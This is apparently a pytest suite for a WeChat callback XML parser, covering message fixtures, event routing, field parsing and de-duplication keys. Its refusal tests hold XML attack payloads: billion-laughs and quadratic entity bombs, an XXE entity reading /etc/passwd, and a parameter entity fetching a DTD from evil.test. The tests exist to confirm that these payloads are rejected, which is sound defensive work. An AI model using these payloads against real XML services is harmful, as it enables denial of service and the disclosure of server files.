"""Parsing callback bodies: every fixture in tests/data/messages, the refusals, the key."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import xmltodict

from wxserver.protocol import xmlguard
from wxserver.protocol.builders import (
    EVENT_BUILDERS,
    MESSAGE_TYPES,
)
from wxserver.protocol.errors import XmlError
from wxserver.protocol.events import (
    ArticleUrl,
    CardEvent,
    ClickEvent,
    CopyrightCheckItem,
    KfSessionEvent,
    LocationEvent,
    LocationSelectEvent,
    MassSendJobFinishEvent,
    PicEvent,
    PublishJobFinishEvent,
    ScanCodeEvent,
    ScanEvent,
    SubscribeEvent,
    SubscribeMsgChangeEvent,
    SubscribeMsgItem,
    SubscribeMsgPopupEvent,
    SubscribeMsgSentEvent,
    TemplateSendJobFinishEvent,
    UnsubscribeEvent,
    VerificationEvent,
    VerificationFailEvent,
    ViewEvent,
    ViewMiniprogramEvent,
)
from wxserver.protocol.messages import (
    EventMessage,
    ImageMessage,
    LinkMessage,
    LocationMessage,
    Message,
    NormalMessage,
    ShortVideoMessage,
    TextMessage,
    UnknownEvent,
    UnknownMessage,
    VideoMessage,
    VoiceMessage,
)
from wxserver.protocol.parsing import message_from_fields, parse_message, parse_xml

FIXTURES = Path(__file__).parent / "data" / "messages"
FIXTURE_FILES = sorted(FIXTURES.glob("*.xml"))
OA = "gh_10f6c3c3ac5a"
USER = "oyORnuP8q7ou2gfYjqLzSIWZf0rs"
SUB_USER = "otFpruAK8D-E6EfStSYonYSBZ8_4"
TICKET = (
    "gQH47joAAAAAAAAAASxodHRwOi8vd2VpeGluLnFxLmNvbS9xL2taZ2Z3TVRtNzJXV1Brb3ZhYmJJ"
    "AAIEZ23sUwMEmm3sUw=="
)
TEMPLATE_A = "VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc"
TEMPLATE_B = "9nLIlbOQZC5Y89AZteFEux3WCXRRRG5Wfzkpssu4bLI"


def _copyright(idx: int) -> CopyrightCheckItem:
    return CopyrightCheckItem(
        article_idx=idx,
        user_declare_state=0,
        audit_state=2,
        original_article_url=f"Url_{idx}",
        original_article_type=1,
        can_reprint=1,
        need_replace_content=1,
        need_show_reprint_source=1,
    )


# Every fixture file: the class it must parse to and the values of the fields that matter.
EXPECTED: dict[str, tuple[type[Message], dict[str, Any]]] = {
    "text.xml": (
        TextMessage,
        {
            "to_user_name": OA,
            "from_user_name": USER,
            "create_time": 1409735668,
            "msg_type": "text",
            "msg_id": 6054768590064713728,
            "content": "weather Shenzhen",
            "bizmsgmenuid": None,
            "agent_id": None,
        },
    ),
    "text_bare_wecom.xml": (
        TextMessage,
        {
            "to_user_name": "ww1436e0e65a779aee",
            "from_user_name": "ChenJiaShun",
            "create_time": 1476422779,
            "content": "你好",
            "msg_id": 1456453720,
            "agent_id": "1000002",
        },
    ),
    "text_msgmenu.xml": (TextMessage, {"content": "满意", "bizmsgmenuid": "101"}),
    "text_from_article.xml": (
        TextMessage,
        {"content": "line one\nline two", "msg_data_id": "2247483652", "idx": 1},
    ),
    "image.xml": (
        ImageMessage,
        {
            "pic_url": "http://mmbiz.qpic.cn/mmbiz_jpg/abc123/0",
            "media_id": "Kk0wzLpz5Ayg7J2vx7dBqRaoLd5hVYMEi7Xg0bo9bFGB3uRQ5iKJ3x3BVd2aMLKs",
            "msg_id": 24265148013386010,
        },
    ),
    "voice.xml": (
        VoiceMessage,
        {
            "media_id": "w1ZeP2rNYQ-9DZ2x6MC1YVWCOWtU9bB6wlpgDnfMJVmWwJDdUc1ZIM9aZUSwBvQs",
            "format": "amr",
            "media_id_16k": "HyZQ5kGDQ6eF4xk2mX0eLm0L8cEW2UCX2bQs2VvIuBCeA4yG4YA9pyGULYxM1PKS",
            "recognition": "",
        },
    ),
    "video.xml": (
        VideoMessage,
        {"media_id": "video_media_id_9kLq", "thumb_media_id": "video_thumb_media_id_3Jx"},
    ),
    "shortvideo.xml": (
        ShortVideoMessage,
        {"media_id": "shortvideo_media_id_Z2p", "thumb_media_id": "shortvideo_thumb_id_W8d"},
    ),
    "location.xml": (
        LocationMessage,
        {
            "location_x": 23.134521,
            "location_y": 113.358803,
            "scale": 20,
            "label": "广州市天河区天河路",
        },
    ),
    "link.xml": (
        LinkMessage,
        {
            "title": "公众平台官网链接",
            "description": "公众平台官网链接",
            "url": "https://mp.weixin.qq.com/",
        },
    ),
    "unknown_msgtype.xml": (UnknownMessage, {"msg_type": "miniprogrampage"}),
    "event_subscribe.xml": (
        SubscribeEvent,
        {"event": "subscribe", "event_key": None, "scene": None, "ticket": None},
    ),
    "event_subscribe_qrscene.xml": (
        SubscribeEvent,
        {"event_key": "qrscene_spring_promo", "scene": "spring_promo", "ticket": TICKET},
    ),
    "event_unsubscribe.xml": (UnsubscribeEvent, {"event": "unsubscribe", "event_key": ""}),
    "event_scan.xml": (
        ScanEvent,
        {"event": "SCAN", "event_key": "spring_promo", "scene": "spring_promo", "ticket": TICKET},
    ),
    "event_location.xml": (
        LocationEvent,
        {
            "event": "LOCATION",
            "latitude": 23.137466,
            "longitude": 113.352425,
            "precision": 119.38504,
        },
    ),
    "event_click.xml": (ClickEvent, {"event": "CLICK", "event_key": "MENU_WEATHER"}),
    "event_view.xml": (
        ViewEvent,
        {"event": "VIEW", "event_key": "https://www.qq.com/", "menu_id": "415230411"},
    ),
    "event_scancode_push.xml": (
        ScanCodeEvent,
        {
            "event": "scancode_push",
            "event_key": "rselfmenu_0_1",
            "scan_type": "qrcode",
            "scan_result": "http://weixin.qq.com/r/abc",
        },
    ),
    "event_scancode_waitmsg.xml": (
        ScanCodeEvent,
        {
            "event": "scancode_waitmsg",
            "scan_type": "barcode",
            "scan_result": "EAN_13,6901234567892",
        },
    ),
    "event_pic_sysphoto.xml": (
        PicEvent,
        {
            "event": "pic_sysphoto",
            "event_key": "rselfmenu_1_0",
            "count": 1,
            "pic_md5_sums": ("1b5f7c23b5bf75682a53e7b6d163e185",),
        },
    ),
    "event_pic_photo_or_album.xml": (
        PicEvent,
        {
            "event": "pic_photo_or_album",
            "count": 3,
            "pic_md5_sums": (
                "5a75aaca956d97be686719218f275c6b",
                "8d2c1d1f0e3b4a5c6d7e8f9a0b1c2d3e",
                "f0e1d2c3b4a5968778695a4b3c2d1e0f",
            ),
        },
    ),
    "event_location_select.xml": (
        LocationSelectEvent,
        {
            "event_key": "rselfmenu_2_0",
            "location_x": 23.0,
            "location_y": 113.0,
            "scale": 15,
            "label": "广州市海珠区客村艺苑路 106号",
            "poiname": "",
        },
    ),
    "event_view_miniprogram.xml": (
        ViewMiniprogramEvent,
        {"event_key": "pages/index/index", "menu_id": "415230412"},
    ),
    "event_templatesendjobfinish.xml": (
        TemplateSendJobFinishEvent,
        {"event": "TEMPLATESENDJOBFINISH", "msg_id": 200163836, "status": "failed:user block"},
    ),
    "event_masssendjobfinish.xml": (
        MassSendJobFinishEvent,
        {
            "msg_id": 1000001625,
            "status": "send success",
            "total_count": 100,
            "filter_count": 80,
            "sent_count": 75,
            "error_count": 5,
            "copyright_check_state": 2,
            "copyright_check_results": (_copyright(1), _copyright(2)),
            "article_urls": (ArticleUrl(idx=1, url="https://mp.weixin.qq.com/s/AbCdEf"),),
        },
    ),
    "event_publishjobfinish.xml": (
        PublishJobFinishEvent,
        {
            "event": "PUBLISHJOBFINISH",
            "publish_id": "2247503051",
            "publish_status": 0,
            "article_id": "b5O2OUs25HBxRceL7hfReg-U9QGeq9zQjiDvyWP4Hq4",
            "article_urls": (
                ArticleUrl(idx=1, url="https://mp.weixin.qq.com/s/b5O2OUs25HBxRceL7hfReg"),
            ),
            "fail_idx": (),
        },
    ),
    "event_publishjobfinish_failed.xml": (
        PublishJobFinishEvent,
        {
            "publish_id": "2247503052",
            "publish_status": 2,
            "article_id": None,
            "article_urls": (),
            "fail_idx": (1, 2),
        },
    ),
    "event_subscribe_msg_popup_event_one.xml": (
        SubscribeMsgPopupEvent,
        {
            "from_user_name": SUB_USER,
            "items": (
                SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="accept", popup_scene=2),
            ),
        },
    ),
    "event_subscribe_msg_popup_event_several.xml": (
        SubscribeMsgPopupEvent,
        {
            "items": (
                SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="accept", popup_scene=2),
                SubscribeMsgItem(template_id=TEMPLATE_B, subscribe_status="reject", popup_scene=1),
            ),
        },
    ),
    "event_subscribe_msg_change_event_one.xml": (
        SubscribeMsgChangeEvent,
        {"items": (SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="reject"),)},
    ),
    "event_subscribe_msg_change_event_doc_wrapper.xml": (
        SubscribeMsgChangeEvent,
        {
            "items": (
                SubscribeMsgItem(template_id=TEMPLATE_A, subscribe_status="reject"),
                SubscribeMsgItem(template_id=TEMPLATE_B, subscribe_status="reject"),
            ),
        },
    ),
    "event_subscribe_msg_sent_event_one.xml": (
        SubscribeMsgSentEvent,
        {
            "items": (
                SubscribeMsgItem(
                    template_id=TEMPLATE_A,
                    msg_id=1700827132819554304,
                    error_code=0,
                    error_status="success",
                ),
            ),
        },
    ),
    "event_subscribe_msg_sent_event_several.xml": (
        SubscribeMsgSentEvent,
        {
            "items": (
                SubscribeMsgItem(
                    template_id=TEMPLATE_A,
                    msg_id=1700827132819554304,
                    error_code=0,
                    error_status="success",
                ),
                SubscribeMsgItem(
                    template_id=TEMPLATE_B,
                    msg_id=1700827132819554305,
                    error_code=10002,
                    error_status="failed:user block",
                ),
            ),
        },
    ),
    "event_qualification_verify_success.xml": (
        VerificationEvent,
        {"event": "qualification_verify_success", "expired_time": 1474023556},
    ),
    "event_naming_verify_fail.xml": (
        VerificationFailEvent,
        {"event": "naming_verify_fail", "fail_time": 1442401122, "fail_reason": "by time"},
    ),
    "event_kf_create_session.xml": (
        KfSessionEvent,
        {"kf_account": "test1@test", "from_kf_account": None, "to_kf_account": None},
    ),
    "event_kf_switch_session.xml": (
        KfSessionEvent,
        {"kf_account": None, "from_kf_account": "test1@test", "to_kf_account": "test2@test"},
    ),
    "event_user_get_card.xml": (
        CardEvent,
        {
            "event": "user_get_card",
            "card_id": "po2VNuCuRo-8sxxxxxxxxxxx",
            "user_card_code": "226009850808",
            "is_give_by_friend": False,
            "friend_user_name": "",
            "outer_id": 0,
            "outer_str": "12b",
            "is_restore_member_card": False,
            "union_id": "o6_bmasdasdsad6_2sgVt7hMZOPfL",
            "refuse_reason": None,
        },
    ),
    "event_card_not_pass_check.xml": (
        CardEvent,
        {
            "card_id": "pFS7Fjg8kV1IdDz01r4SQwMkuCKc",
            "refuse_reason": "非法代制",
            "user_card_code": None,
        },
    ),
    "event_user_consume_card.xml": (
        CardEvent,
        {
            "user_card_code": "12312312",
            "consume_source": "FROM_API",
            "location_name": "",
            "staff_open_id": "oFS7Fjl0WsZ9AMZqrI80nbIq8xrA",
            "outer_str": "xxxxx",
        },
    ),
    "event_unknown.xml": (
        UnknownEvent,
        {"event": "user_authorization_revoke", "event_key": None},
    ),
}


def _event_body(event: str, extra: str = "") -> bytes:
    return (
        f"<xml><ToUserName>{OA}</ToUserName><FromUserName>{USER}</FromUserName>"
        f"<CreateTime>1700000000</CreateTime><MsgType>event</MsgType>"
        f"<Event><![CDATA[{event}]]></Event>{extra}</xml>"
    ).encode()


def _text_body(content: str) -> bytes:
    return (
        f"<xml><ToUserName>{OA}</ToUserName><FromUserName>{USER}</FromUserName>"
        f"<CreateTime>1</CreateTime><MsgType>text</MsgType><Content>{content}</Content>"
        f"<MsgId>1</MsgId></xml>"
    ).encode()


def _fields(**extra: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "ToUserName": OA,
        "FromUserName": USER,
        "CreateTime": "1700000000",
        "MsgType": "text",
        "Content": "hi",
        "MsgId": "42",
    }
    fields.update(extra)
    return {name: value for name, value in fields.items() if value is not None}


# --- every fixture -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", FIXTURE_FILES, ids=[path.name for path in FIXTURE_FILES])
def test_parse_message_fixture_gives_class_and_fields(path: Path) -> None:
    assert path.name in EXPECTED, f"add the expected class and fields of {path.name}"
    cls, fields = EXPECTED[path.name]
    message = parse_message(path.read_bytes())
    assert type(message) is cls
    assert {name: getattr(message, name) for name in fields} == fields
    assert dict(message.raw).keys() == parse_xml(path.read_bytes()).keys()


@pytest.mark.parametrize("path", FIXTURE_FILES, ids=[path.name for path in FIXTURE_FILES])
def test_message_from_fields_rebuilds_a_message_from_its_raw(path: Path) -> None:
    message = parse_message(path.read_bytes())
    assert message_from_fields(message.raw) == message


def test_fixtures_expected_table_names_only_existing_files() -> None:
    assert sorted(EXPECTED) == [path.name for path in FIXTURE_FILES]


def test_fixtures_cover_every_message_type() -> None:
    covered = {type(parse_message(path.read_bytes())) for path in FIXTURE_FILES}
    assert [cls.__name__ for cls in MESSAGE_TYPES if cls not in covered] == []


def test_fixtures_include_bare_text_and_cdata() -> None:
    texts = [path.read_text("utf-8") for path in FIXTURE_FILES]
    assert any("<![CDATA[" not in text for text in texts)
    assert any("<![CDATA[" in text for text in texts)


# --- the lookup table ----------------------------------------------------------------------------


def test_message_types_are_concrete_and_unique() -> None:
    assert len(set(MESSAGE_TYPES)) == len(MESSAGE_TYPES)
    assert Message not in MESSAGE_TYPES
    assert NormalMessage not in MESSAGE_TYPES
    assert EventMessage not in MESSAGE_TYPES


def test_message_types_each_have_a_builder_and_names() -> None:
    for cls in MESSAGE_TYPES:
        if cls in (UnknownMessage, UnknownEvent):
            continue
        if issubclass(cls, EventMessage):
            assert cls in EVENT_BUILDERS, cls.__name__
            assert cls.event_names, cls.__name__
        else:
            assert issubclass(cls, NormalMessage), cls.__name__
            assert cls.msg_types, cls.__name__
    assert set(EVENT_BUILDERS) <= set(MESSAGE_TYPES)


def test_message_types_declare_lowercase_names_claimed_once() -> None:
    events = [n for cls in MESSAGE_TYPES if issubclass(cls, EventMessage) for n in cls.event_names]
    kinds = [n for cls in MESSAGE_TYPES if issubclass(cls, NormalMessage) for n in cls.msg_types]
    for names in (events, kinds):
        assert len(names) == len(set(names))
        assert all(name == name.lower() for name in names)
    assert "event" not in kinds


EVENT_NAMES = sorted((name, cls) for cls in EVENT_BUILDERS for name in cls.event_names)


@pytest.mark.parametrize(("name", "cls"), EVENT_NAMES, ids=[name for name, _ in EVENT_NAMES])
def test_parse_message_routes_every_declared_event_name(name: str, cls: type[Message]) -> None:
    # The smallest body each event can take: its required fields, and nothing else.
    required = {
        LocationEvent: "<Latitude>1</Latitude><Longitude>2</Longitude><Precision>3</Precision>",
        ScanCodeEvent: "<ScanCodeInfo><ScanType>qrcode</ScanType><ScanResult>r</ScanResult>"
        "</ScanCodeInfo>",
        PicEvent: "<SendPicsInfo><Count>0</Count></SendPicsInfo>",
        LocationSelectEvent: "<SendLocationInfo><Location_X>1</Location_X><Location_Y>2"
        "</Location_Y><Scale>3</Scale><Label>l</Label></SendLocationInfo>",
        TemplateSendJobFinishEvent: "<MsgID>1</MsgID><Status>success</Status>",
        MassSendJobFinishEvent: "<MsgID>1</MsgID><Status>send success</Status>",
        PublishJobFinishEvent: "<PublishEventInfo><publish_id>1</publish_id>"
        "<publish_status>0</publish_status></PublishEventInfo>",
    }
    message = parse_message(_event_body(name.upper(), required.get(cls, "")))
    assert type(message) is cls
    assert isinstance(message, EventMessage)
    assert message.event == name.upper()


# --- events: names, scenes, unknowns -------------------------------------------------------------


@pytest.mark.parametrize("name", ["SCAN", "scan", "Scan", " scan "], ids=repr)
def test_parse_message_event_names_are_case_insensitive(name: str) -> None:
    message = parse_message(_event_body(name, "<EventKey>42</EventKey>"))
    assert isinstance(message, ScanEvent)
    assert message.event == name.strip()  # read as xmltodict reads it
    assert message.scene == "42"


@pytest.mark.parametrize(
    ("msg_type", "cls"),
    [("TEXT", TextMessage), ("Text", TextMessage), ("shortVideo", ShortVideoMessage)],
    ids=["upper", "title", "camel"],
)
def test_parse_message_msg_types_are_case_insensitive(msg_type: str, cls: type[Message]) -> None:
    fields = _fields(MsgType=msg_type, MediaId="m", ThumbMediaId="t")
    message = message_from_fields(fields)
    assert type(message) is cls
    assert message.msg_type == msg_type


@pytest.mark.parametrize(
    ("event_key", "scene"),
    [
        ("qrscene_123123", "123123"),
        ("qrscene_", ""),
        ("qrscene_qrscene_x", "qrscene_x"),
        ("123123", None),
        ("", None),
        (None, None),
    ],
    ids=["numeric", "empty-scene", "prefix-once", "no-prefix", "empty", "absent"],
)
def test_parse_message_subscribe_scene_strips_qrscene_prefix(
    event_key: str | None, scene: str | None
) -> None:
    extra = "" if event_key is None else f"<EventKey><![CDATA[{event_key}]]></EventKey>"
    message = parse_message(_event_body("subscribe", extra))
    assert isinstance(message, SubscribeEvent)
    assert message.event_key == event_key
    assert message.scene == scene


def test_parse_message_scan_scene_keeps_event_key_as_is() -> None:
    message = parse_message(_event_body("SCAN", "<EventKey>qrscene_7</EventKey>"))
    assert isinstance(message, ScanEvent)
    assert message.scene == "qrscene_7"


def test_parse_message_unknown_msg_type_keeps_raw_fields() -> None:
    message = message_from_fields(_fields(MsgType="hologram", Beam="x", Content=None))
    assert type(message) is UnknownMessage
    assert message.msg_type == "hologram"
    assert message.raw["Beam"] == "x"
    assert message.raw["MsgId"] == "42"


def test_parse_message_unknown_event_keeps_raw_fields() -> None:
    body = _event_body("giftcard_pay_done", "<PageId>p1</PageId><OrderId><![CDATA[o2]]></OrderId>")
    message = parse_message(body)
    assert type(message) is UnknownEvent
    assert message.event == "giftcard_pay_done"
    assert message.raw["PageId"] == "p1"
    assert message.raw["OrderId"] == "o2"


def test_parse_message_unknown_event_with_nested_fields_keeps_them() -> None:
    body = _event_body(
        "poi_check_notify", "<Info><item><A>1</A></item><item><A>2</A></item></Info>"
    )
    message = parse_message(body)
    assert type(message) is UnknownEvent
    assert [item["A"] for item in message.raw["Info"]["item"]] == ["1", "2"]


# --- fields --------------------------------------------------------------------------------------


def test_parse_message_accepts_bare_text_like_cdata() -> None:
    cdata = parse_message(
        b"<xml><ToUserName><![CDATA[a]]></ToUserName><FromUserName><![CDATA[b]]></FromUserName>"
        b"<CreateTime>1</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        b"<Content><![CDATA[x & y <z>]]></Content><MsgId>9</MsgId></xml>"
    )
    bare = parse_message(
        b"<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>"
        b"<MsgType>text</MsgType><Content>x &amp; y &lt;z&gt;</Content><MsgId>9</MsgId></xml>"
    )
    assert cdata == bare


def test_parse_message_text_mentioning_doctype_is_only_text() -> None:
    content = "<!DOCTYPE html><!ENTITY x 'y'>"
    message = message_from_fields(parse_xml(_text_body(f"<![CDATA[{content}]]>")))
    assert isinstance(message, TextMessage)
    assert message.content == content


def test_parse_message_optional_fields_missing_are_none() -> None:
    message = message_from_fields(_fields(MsgType="voice", MediaId="m", Format="amr"))
    assert isinstance(message, VoiceMessage)
    assert (message.media_id_16k, message.recognition, message.agent_id) == (None, None, None)
    assert (message.msg_data_id, message.idx) == (None, None)


def test_parse_message_without_msg_id_has_none() -> None:
    message = message_from_fields(_fields(MsgId=None))
    assert isinstance(message, TextMessage)
    assert message.msg_id is None


@pytest.mark.parametrize("name", ["ToUserName", "FromUserName", "MsgType"])
def test_message_from_fields_missing_common_text_field_is_empty(name: str) -> None:
    message = message_from_fields(_fields(**{name: None}))
    assert (
        getattr(
            message,
            {"ToUserName": "to_user_name", "FromUserName": "from_user_name"}.get(name, "msg_type"),
        )
        == ""
    )


def test_message_from_fields_missing_msg_type_is_an_unknown_message() -> None:
    message = message_from_fields(_fields(MsgType=None))
    assert type(message) is UnknownMessage
    assert message.raw["Content"] == "hi"


def test_message_from_fields_missing_create_time_is_zero() -> None:
    assert message_from_fields(_fields(CreateTime=None)).create_time == 0


def test_message_from_fields_event_without_event_name_is_an_unknown_event() -> None:
    message = message_from_fields(_fields(MsgType="event"))
    assert type(message) is UnknownEvent
    assert message.event == ""


@pytest.mark.parametrize(
    ("fields", "attribute"),
    [
        ({"CreateTime": "yesterday"}, "create_time"),
        ({"CreateTime": "1_000"}, "create_time"),
        ({"CreateTime": "\uff11\uff12\uff13"}, "create_time"),
        ({"MsgId": "12ab"}, "msg_id"),
        ({"MsgType": "location", "Location_X": "north", "Location_Y": "1"}, "location_x"),
        ({"MsgType": "location", "Location_X": "nan", "Location_Y": "1"}, "location_x"),
        ({"MsgType": "location", "Location_X": "1", "Scale": "1.5"}, "scale"),
        ({"MsgType": "text", "Idx": "first"}, "idx"),
    ],
    ids=["word", "underscore", "fullwidth", "msg-id", "coordinate", "nan", "scale", "idx"],
)
def test_message_from_fields_malformed_number_is_empty(
    fields: dict[str, str], attribute: str
) -> None:
    message = message_from_fields(_fields(Label="l", **fields))
    assert getattr(message, attribute) in (None, 0)
    # What arrived is kept all the same.
    assert all(message.raw[name] == value for name, value in fields.items())


def test_message_from_fields_malformed_nested_number_is_empty() -> None:
    message = parse_message(
        _event_body("pic_weixin", "<SendPicsInfo><Count>many</Count></SendPicsInfo>")
    )
    assert isinstance(message, PicEvent)
    assert (message.count, message.pic_md5_sums) == (None, ())


def test_message_from_fields_missing_content_field_is_empty() -> None:
    message = message_from_fields(_fields(MsgType="image", MediaId="m"))
    assert isinstance(message, ImageMessage)
    assert (message.pic_url, message.media_id) == ("", "m")


def test_parse_message_repeated_scalar_field_takes_the_first() -> None:
    message = parse_message(_text_body("hi").replace(b"<xml>", b"<xml><ToUserName>x</ToUserName>"))
    assert message.to_user_name == "x"


def test_parse_message_field_holding_elements_where_text_belongs_is_empty() -> None:
    message = parse_message(_text_body("<b>bold</b>"))
    assert isinstance(message, TextMessage)
    assert message.content == ""
    assert message.raw["Content"] == {"b": "bold"}


def test_parse_message_numbers_tolerate_surrounding_whitespace() -> None:
    message = message_from_fields(_fields(CreateTime="\n 1700000000 \n", MsgId=" 7 "))
    assert (message.create_time, message.key.rsplit(":", 1)[1]) == (1700000000, "7")


def test_parse_message_flags_other_than_zero_or_one_are_empty() -> None:
    message = parse_message(_event_body("user_get_card", "<IsGiveByFriend>2</IsGiveByFriend>"))
    assert isinstance(message, CardEvent)
    assert message.is_give_by_friend is None


# --- the de-duplication key ----------------------------------------------------------------------


def test_message_key_uses_msg_id() -> None:
    message = parse_message((FIXTURES / "text.xml").read_bytes())
    assert message.key == f"{OA}:{USER}:6054768590064713728"


def test_message_key_of_event_uses_time_event_and_key() -> None:
    message = parse_message((FIXTURES / "event_click.xml").read_bytes())
    assert message.key == f"{OA}:{USER}:1700000105:CLICK:MENU_WEATHER"


def test_message_key_of_event_without_event_key_leaves_it_empty() -> None:
    message = parse_message((FIXTURES / "event_subscribe.xml").read_bytes())
    assert message.key == f"{OA}:{USER}:1700000100:subscribe:"


def test_message_key_of_job_finish_events_adds_msg_id() -> None:
    first = parse_message(
        _event_body("TEMPLATESENDJOBFINISH", "<MsgID>1</MsgID><Status>ok</Status>")
    )
    second = parse_message(
        _event_body("TEMPLATESENDJOBFINISH", "<MsgID>2</MsgID><Status>ok</Status>")
    )
    assert first.key == f"{OA}:{USER}:1700000000:TEMPLATESENDJOBFINISH::1"
    assert first.key != second.key


def test_message_key_of_unknown_message_uses_its_msg_id() -> None:
    message = parse_message((FIXTURES / "unknown_msgtype.xml").read_bytes())
    assert message.key == f"{OA}:{USER}:24265148013386070"


def test_message_key_without_msg_id_falls_back_to_time() -> None:
    message = message_from_fields(_fields(MsgId=None))
    assert message.key == f"{OA}:{USER}:1700000000::"


# --- parse_xml: refusals -------------------------------------------------------------------------


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Content>&lol3;</Content></xml>"""
XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><Content>&xxe;</Content></xml>"""
QUADRATIC = (
    b'<!DOCTYPE xml [<!ENTITY a "' + b"x" * 50_000 + b'">]><xml><C>' + b"&a;" * 1000 + b"</C></xml>"
)
ATTACKS = {
    "billion-laughs": BILLION_LAUGHS,
    "xxe-file": XXE,
    "quadratic-blowup": QUADRATIC,
    "doctype-no-entities": b'<?xml version="1.0"?><!DOCTYPE xml><xml><A>1</A></xml>',
    "lowercase-doctype": b"<!doctype xml><xml><A>1</A></xml>",
    "spaced-doctype": b"<! DOCTYPE xml><xml><A>1</A></xml>",
    "entity-without-doctype": b'<!ENTITY a "b"><xml><A>&a;</A></xml>',
    "doctype-after-comment": b"<!-- hello --><!DOCTYPE xml><xml/>",
    "doctype-after-bom": b"\xef\xbb\xbf<!DOCTYPE xml><xml/>",
    "parameter-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><xml/>',
}


@pytest.mark.parametrize("body", list(ATTACKS.values()), ids=list(ATTACKS))
def test_parse_xml_refuses_doctype_and_entities_before_parsing(
    body: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_args: object, **_kwargs: object) -> None:
        pytest.fail("the body reached the XML parser")

    monkeypatch.setattr("xmltodict.parse", never)
    with pytest.raises(XmlError, match="DOCTYPE"):
        parse_xml(body)


@pytest.mark.parametrize(
    "body",
    [b"<xml><!DOCTYPE xml><A>1</A></xml>", b"<xml><A>1</A></xml><!DOCTYPE xml>"],
    ids=["inside-root", "after-root"],
)
def test_parse_xml_doctype_outside_prolog_is_malformed(body: bytes) -> None:
    with pytest.raises(XmlError, match="not well-formed"):
        parse_xml(body)


def test_parse_xml_parser_refuses_doctype_on_its_own() -> None:
    # The second line of defence, should a DOCTYPE ever get past the byte check.
    parser = xmlguard.GuardedExpat.ParserCreate("utf-8", None)
    with pytest.raises(XmlError, match="DOCTYPE"):
        parser.Parse(b"<!DOCTYPE xml><xml/>", True)


@pytest.mark.parametrize(
    ("body", "match"),
    [
        ("<xml><Content>你好</Content></xml>".encode("gbk"), "not valid UTF-8"),
        (b"<xml><Content>\xed\xa0\x80</Content></xml>", "not valid UTF-8"),
        (b"<xml><Content>\xc0\xaf</Content></xml>", "not valid UTF-8"),
        (b"<xml><Content>\xf4\x90\x80\x80</Content></xml>", "not valid UTF-8"),
        (b"<xml><Content>\xe4\xbd</Content></xml>", "not valid UTF-8"),
        (b"<xml><Content>\x80</Content></xml>", "not valid UTF-8"),
        (b"<xml><Content\xff>x</Content\xff></xml>", "not valid UTF-8"),
        ("<xml><A>x</A></xml>".encode("utf-16-le"), "NUL"),
        ("<xml><A>x</A></xml>".encode("utf-16"), "not valid UTF-8"),
        (b'<?xml version="1.0" encoding="GBK"?><xml><A>1</A></xml>', "'GBK'"),
        (b"<?xml version='1.0' encoding='ISO-8859-1'?><xml/>", "'ISO-8859-1'"),
        (b"<xml><A>1</A>", "not well-formed"),
        (b"<xml><A>1</B></xml>", "not well-formed"),
        (b"<xml><A>&undefined;</A></xml>", "not well-formed"),
        (b"just text", "not well-formed"),
        (b"", "empty"),
        (b" \r\n\t", "empty"),
        (b"<message><A>1</A></message>", "root element is <message>"),
        (b"<XML><A>1</A></XML>", "root element is <XML>"),
        (b"<xml>text</xml>", "holds text"),
    ],
    ids=[
        "gbk-bytes",
        "utf8-surrogate",
        "utf8-overlong",
        "utf8-beyond-unicode",
        "utf8-truncated",
        "utf8-lone-continuation",
        "utf8-in-a-name",
        "utf16-without-bom",
        "utf16-with-bom",
        "gbk-declaration",
        "latin1-declaration",
        "unclosed",
        "mismatched-tag",
        "undefined-entity",
        "not-xml",
        "empty",
        "whitespace",
        "wrong-root",
        "uppercase-root",
        "root-text",
    ],
)
def test_parse_xml_refuses_bad_body(body: bytes, match: str) -> None:
    with pytest.raises(XmlError, match=match):
        parse_xml(body)


# --- parse_xml: accepted shapes ------------------------------------------------------------------


@pytest.mark.parametrize(
    "prefix",
    [
        b"",
        b'<?xml version="1.0" encoding="UTF-8"?>\n',
        b"<?xml version='1.0' encoding='utf8'?>",
        b'<?xml version="1.0"?>',
        b"\xef\xbb\xbf",
        b"<!-- pushed by WeChat -->\n",
    ],
    ids=["none", "utf-8-declaration", "utf8-declaration", "no-encoding", "bom", "comment"],
)
def test_parse_xml_accepts_utf8_prologs(prefix: bytes) -> None:
    assert parse_xml(prefix + b"<xml><A>1</A></xml>") == {"A": "1"}


def test_parse_xml_repeated_children_are_always_lists() -> None:
    one = parse_xml(b"<xml><L><List><T>a</T></List></L><I><item>1</item></I></xml>")
    many = parse_xml(b"<xml><L><List><T>a</T></List><List><T>b</T></List></L></xml>")
    assert one == {"L": {"List": [{"T": "a"}]}, "I": {"item": ["1"]}}
    assert many == {"L": {"List": [{"T": "a"}, {"T": "b"}]}}


def test_parse_xml_strips_values_and_drops_layout_as_xmltodict_does() -> None:
    fields = parse_xml(b"<xml>\n  <A>  two  spaces </A>\n  <B>\n    <C>1</C>\n  </B>\n</xml>")
    assert fields == {"A": "two  spaces", "B": {"C": "1"}}
    assert (
        fields
        == xmltodict.parse(b"<xml>\n  <A>  two  spaces </A>\n  <B>\n    <C>1</C>\n  </B>\n</xml>")[
            "xml"
        ]
    )


def test_parse_xml_empty_elements_are_none() -> None:
    assert parse_xml(b"<xml><A/><B><![CDATA[]]></B></xml>") == {"A": None, "B": None}


def test_parse_xml_empty_root_has_no_fields() -> None:
    assert parse_xml(b"<xml/>") == {}
